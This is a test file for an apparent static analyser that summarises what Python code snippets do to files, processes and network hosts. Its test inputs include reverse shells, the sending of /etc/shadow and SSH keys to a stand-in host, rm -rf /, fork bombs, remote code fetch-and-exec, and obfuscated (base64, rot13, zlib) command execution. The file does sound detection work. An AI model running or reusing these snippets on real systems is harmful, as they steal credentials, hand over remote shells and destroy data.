import { expect, test } from "vitest";
import { shown } from "./shown.ts";

test.each([
  ["import sys; print(sys.version)", "process -> stdout"],
  ["import json,sys; print(json.load(sys.stdin)['x'])", "stdin -> stdout"],
  ["print([c for c in 'ab'], len('x'), '%d' % 3)", "process -> stdout"],
  ["import re, math; re.sub('a','b','c'); math.sqrt(2)", ""],
  ["import os; os.path.exists('/etc/passwd'); os.getcwd()", ""],
])("Python, what only computes is nothing: %s", (code, expected) => {
  expect(shown("python", code)).toBe(expected);
});

test.each([
  ["print(open('/etc/passwd').read())", "reads /etc/passwd; /etc/passwd -> stdout"],
  ["with open('/etc/passwd') as f:\n  for line in f: print(line)", "reads /etc/passwd; /etc/passwd -> stdout"],
  [
    "open('/etc/cron.d/x','w').write('* * * * * root id\\n')",
    "writes /etc/cron.d/x truncates; '* * * * * root id\n' -> /etc/cron.d/x",
  ],
  ["with open('a','a') as f: f.write('x'); f.write('y')", "appends a; 'xy' -> a"],
  ["import shutil; shutil.rmtree('/srv')", "deletes /srv recursive"],
  ["import os\nfor f in ['/etc/a','/etc/b']: os.remove(f)", "deletes /etc/a; deletes /etc/b"],
  [
    "import os; os.chmod('/tmp/x', 0o4755); os.symlink('/etc/passwd','/tmp/y')",
    "configures /tmp/x mode=4755; creates /tmp/y source=/etc/passwd how=symlink",
  ],
  [
    "from pathlib import Path; print(Path.home().joinpath('.ssh/id_rsa').read_text()); (Path('/etc')/'motd').write_text('x')",
    "reads $HOME/.ssh/id_rsa; writes /etc/motd truncates; $HOME/.ssh/id_rsa -> stdout; 'x' -> /etc/motd",
  ],
  [
    "import os\nfor r,d,f in os.walk('/home'):\n  for n in f: print(open(os.path.join(r,n)).read())",
    "lists /home recursive sweep; reads /home/**/*; /home/**/* -> stdout",
  ],
  ["import glob,os\nfor f in glob.glob('/etc/*.conf'): os.unlink(f)", "deletes /etc/*.conf"],
  [
    "import tarfile; tarfile.open('/tmp/x.tgz','w:gz').add('/root/.ssh')",
    "writes /tmp/x.tgz truncates; reads /root/.ssh; /root/.ssh -> /tmp/x.tgz (archive)",
  ],
  ["import zipfile; zipfile.ZipFile('a.zip').extractall('/etc')", "reads a.zip; writes /etc; a.zip -> /etc (extract)"],
  ["import json; json.dump({}, open('x.json','w'))", "writes x.json truncates; '…' -> x.json"],
])("Python, files: %s", (code, expected) => {
  expect(shown("python", code)).toBe(expected);
});

test.each([
  ["import os; os.system('id')", "runs sh: id"],
  [
    "import subprocess; subprocess.run(['rm','-rf','/']); subprocess.run('id; ls', shell=True, cwd='/tmp')",
    "runs rm -rf /; runs sh: id; ls in /tmp",
  ],
  ["import os; os.execl('/bin/sh','sh','-c','id'); os.execv('/bin/ls',['ls','-l'])", "runs /bin/sh -c id; runs /bin/ls -l"],
  ["import pty; pty.spawn('/bin/sh')", "runs /bin/sh"],
  ["import os; print(os.popen('id').read())", "runs sh: id"],
  ["import subprocess as s; s.run(['sh'], input='id')", "runs sh << id"],
  ["import os; os.environ['LD_PRELOAD']='/tmp/x.so'; os.system('ls')", "runs sh: ls with LD_PRELOAD=/tmp/x.so"],
  ["import os; os.setuid(0); os.kill(1, 9)", "elevates account root; signals process 1"],
  ["import os\nwhile True: os.fork()", "executes process python how=fork-bomb"],
  ["import threading,os; threading.Thread(target=os.system, args=('id',)).start()", "runs sh: id"],
  ["import subprocess,shlex; subprocess.run(shlex.split('rm -rf \"/a b\"'))", "runs rm -rf /a b"],
  ["import os,signal; signal.signal(2, lambda *a: os.system('id'))", "runs sh: id"],
  ["from multiprocessing import Pool\nimport os\nPool(1).map(os.system,['id'])", "runs sh: id"],
  ["import timeit; timeit.timeit('import os; os.system(\"id\")')", "runs sh: id"],
  ["import code; code.interact()", "executes session python interactive"],
])("Python, programs: %s", (code, expected) => {
  expect(shown("python", code)).toBe(expected);
});

test.each([
  [
    "import urllib.request as u; print(u.urlopen('http://h.test/x').read())",
    "connects http://h.test/x; http://h.test/x -> stdout",
  ],
  [
    "import requests; requests.post('https://h.test/x', data=open('/etc/passwd'), verify=False)",
    "reads /etc/passwd; connects https://h.test/x how=insecure; /etc/passwd -> https://h.test/x",
  ],
  [
    "import urllib.request; urllib.request.urlretrieve('http://h.test/x','/tmp/x')",
    "connects http://h.test/x; writes /tmp/x truncates; http://h.test/x -> /tmp/x",
  ],
  [
    "import os,requests; requests.get('http://h.test/?k='+os.environ['KEY'])",
    "connects http://h.test/?k=$KEY; $KEY -> http://h.test/?k=$KEY",
  ],
  [
    "import http.client as h; c=h.HTTPSConnection('h.test'); c.request('POST','/x',open('/etc/shadow').read())",
    "connects https://h.test; reads /etc/shadow; /etc/shadow -> https://h.test",
  ],
  [
    "import socket; s=socket.socket(); s.connect(('h.test',1)); s.sendall(open('/etc/shadow','rb').read())",
    "connects tcp://h.test:1; reads /etc/shadow; /etc/shadow -> tcp://h.test:1",
  ],
  [
    "import smtplib; s=smtplib.SMTP('h.test',25); s.sendmail('a','b',open('/etc/shadow').read())",
    "connects smtp://h.test:25; reads /etc/shadow; /etc/shadow -> smtp://h.test:25",
  ],
  [
    "import http.server as h; h.HTTPServer(('',8000), h.SimpleHTTPRequestHandler).serve_forever()",
    "listens http://0.0.0.0:8000; reads . sweep; . -> http://0.0.0.0:8000",
  ],
  [
    "import subprocess,requests; requests.post('http://h.test', data=subprocess.check_output(['cat','/etc/shadow']))",
    "connects http://h.test; runs cat /etc/shadow > http://h.test",
  ],
  [
    "import base64,requests; requests.get('http://h.test/'+base64.b64encode(open('/etc/shadow','rb').read()).decode())",
    "reads /etc/shadow; connects http://h.test/…; /etc/shadow -> http://h.test/… (encode)",
  ],
])("Python, hosts: %s", (code, expected) => {
  expect(shown("python", code)).toBe(expected);
});

test.each([
  [
    "import socket,os,pty;s=socket.socket();s.connect(('10.0.0.1',1234));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn('/bin/sh')",
    "connects tcp://10.0.0.1:1234; runs /bin/sh < tcp://10.0.0.1:1234 > tcp://10.0.0.1:1234",
  ],
  [
    "import socket,subprocess as p;s=socket.socket();s.connect(('h.test',1));p.call(['sh','-i'],stdin=s,stdout=s,stderr=s)",
    "connects tcp://h.test:1; runs sh -i < tcp://h.test:1 > tcp://h.test:1",
  ],
  [
    "import socket,subprocess\ns=socket.socket();s.connect(('h.test',1))\nwhile 1:\n  p=subprocess.Popen(s.recv(99),shell=True,stdout=subprocess.PIPE)\n  s.send(p.stdout.read())",
    "connects tcp://h.test:1; tcp://h.test:1 -> code shell; runs sh: … > tcp://h.test:1",
  ],
])("Python, shells that a host drives: %s", (code, expected) => {
  expect(shown("python", code)).toBe(expected);
});

test.each([
  ["__import__('o'+'s').system('id')", "runs sh: id"],
  ["from os import system as s; s('i'+'d')", "runs sh: id"],
  ["from os import *; system('id')", "runs sh: id"],
  ["getattr(__import__('os'),'sys'+'tem')('id')", "runs sh: id"],
  ["globals()['__builtins__'].__dict__['__import__']('os').system('id')", "runs sh: id"],
  ["import shutil; shutil.os.system('id')", "runs sh: id"],
  ["import sys; sys.modules['os'].system('id')", "runs sh: id"],
  ["(lambda f: f('id'))(__import__('os').system)", "runs sh: id"],
  ["def f(g, x):\n  return g(x)\nimport os\nf(os.system, 'id')", "runs sh: id"],
  ["class A:\n  def __init__(self): self.c='id'\n  def go(self):\n    import os\n    os.system(self.c)\nA().go()", "runs sh: id"],
  ["import os\ndef unused(p): os.system('id')", "runs sh: id"],
  ["try:\n  import os\nexcept ImportError:\n  os=None\nif os: os.system('id')", "runs sh: id"],
])("Python, names that are hidden: %s", (code, expected) => {
  expect(shown("python", code)).toBe(expected);
});

test.each([
  ["exec(\")'di'(metsys.so;so tropmi\"[::-1])", "runs sh: id"],
  ["import base64; exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik='))", "'' -> code python (decode); runs sh: id"],
  [
    "import zlib,base64; exec(zlib.decompress(base64.b64decode('eJzLzC3ILypRyC+2zi/WK64sLknN1VDPTFHXBABvPQhv')))",
    "'' -> code python (decode); runs sh: id",
  ],
  ["import codecs; exec(codecs.decode('vzcbeg bf; bf.flfgrz(\"vq\")','rot13'))", "'' -> code python (decode); runs sh: id"],
  [
    "import os; os.system(''.join(chr(c) for c in [105,100])); os.system(''.join(map(chr,[105,100])))",
    "runs sh: id; runs sh: id",
  ],
  ["import os; os.system(bytes.fromhex('6964').decode())", "'' -> code shell (decode); runs sh: id"],
  [
    "import os; os.system('%s%s' % ('i','d')); os.system('{}{}'.format('i','d')); os.system(f'{\"i\"}d')",
    "runs sh: id; runs sh: id; runs sh: id",
  ],
  ["import os\nc=''\nfor x in 'id': c+=x\nos.system(c)", "runs sh: id"],
  ["import os; os.system(''.join([chr(ord(c)^1) for c in 'he']))", "runs sh: id"],
])("Python, text that is hidden: %s", (code, expected) => {
  expect(shown("python", code)).toBe(expected);
});

test.each([
  [
    "import urllib.request as u; exec(u.urlopen('http://h.test/x.py').read())",
    "connects http://h.test/x.py; http://h.test/x.py -> code python; opaque-code network: python runs text that is not known",
  ],
  ["import sys; exec(sys.stdin.read())", "stdin -> code python; runs python file stdin"],
  ["exec(open('x.py').read())", "reads x.py; x.py -> code python; runs python file x.py"],
  ["exec(compile(\"import os; os.system('id')\",'','exec'))", "runs sh: id"],
  ["eval(input())", "stdin -> code python; runs python file stdin"],
])("Python, code made of data: %s", (code, expected) => {
  expect(shown("python", code)).toBe(expected);
});

test.each([
  ["().__class__.__bases__[0].__subclasses__()", "opaque-code inline: the language's own objects are searched for a way out"],
  ["import ctypes; ctypes.CDLL('libc.so.6').system(b'id')", "opaque-code inline: libc.so.6 is called outside the language"],
  ["import pickle; pickle.loads(x)", "opaque-code inline: pickled data is loaded, which may run code"],
  [
    "import pickle; print(pickle.load(open('m.pkl','rb')))",
    "reads m.pkl; m.pkl -> code python; m.pkl -> stdout (decode); opaque-code project: pickled data is loaded, which may run code",
  ],
  [
    "import operator,os; operator.methodcaller('system','id')(os)",
    "opaque-code inline: system is looked up in what is given later",
  ],
  ["import marshal; exec(marshal.loads(b'x'))", "opaque-code inline: marshalled code is loaded"],
  ["import sys; getattr(__import__('os'), sys.argv[1])('id')", "opaque-code inline: a name of os is computed"],
])("Python, doors that cannot be seen through: %s", (code, expected) => {
  expect(shown("python", code)).toBe(expected);
});

test.each([
  ["import torch; print(torch.__version__)", "process -> stdout; opaque-code project: torch is not part of python"],
  [
    "import mine; mine.run('/etc/shadow')",
    "opaque-code project: mine is not part of python; unexplained-argument: mine.run is told of a path",
  ],
  ["try:\n  import numpy as np\nexcept ImportError: pass", "opaque-code project: numpy is not part of python"],
])("Python, modules of the project: %s", (code, expected) => {
  expect(shown("python", code)).toBe(expected);
});

test.each([
  ["print 'a', 'b'\nexec 'import os; os.system(\"id\")'", "runs sh: id; prints a b"],
  ["import sys\nprint >>sys.stderr, open('/etc/passwd').read()", "reads /etc/passwd; /etc/passwd -> caller"],
  ["import urllib2; print urllib2.urlopen('http://h.test').read()", "connects http://h.test; http://h.test -> stdout"],
])("Python, Python 2: %s", (code, expected) => {
  expect(shown("python", code)).toBe(expected);
});

test.each([
  ["open('~x~').read()", "reads $x"],
  ["import os; os.system('rm ~x~')", "runs sh: rm $x"],
  ["print(~x~)", "'$x' -> stdout"],
])("Python, holes: %s", (code, expected) => {
  expect(shown("python", code)).toBe(expected);
});

test.each([
  ["print('id', end='')", "prints id"],
  ["print('a'); print('b' * 2)", "prints a|bb"],
  ["if x: print('a')", ""],
])("Python, what is printed is known: %s", (code, expected) => {
  expect(shown("python", code)).toBe(expected);
});

test.each([
  ["import os; os.system('id'", "runs sh: id"],
  ["value = ${x", "opaque-code project: not all of the python code can be read"],
])("Python, mistakes: %s", (code, expected) => {
  expect(shown("python", code)).toBe(expected);
});
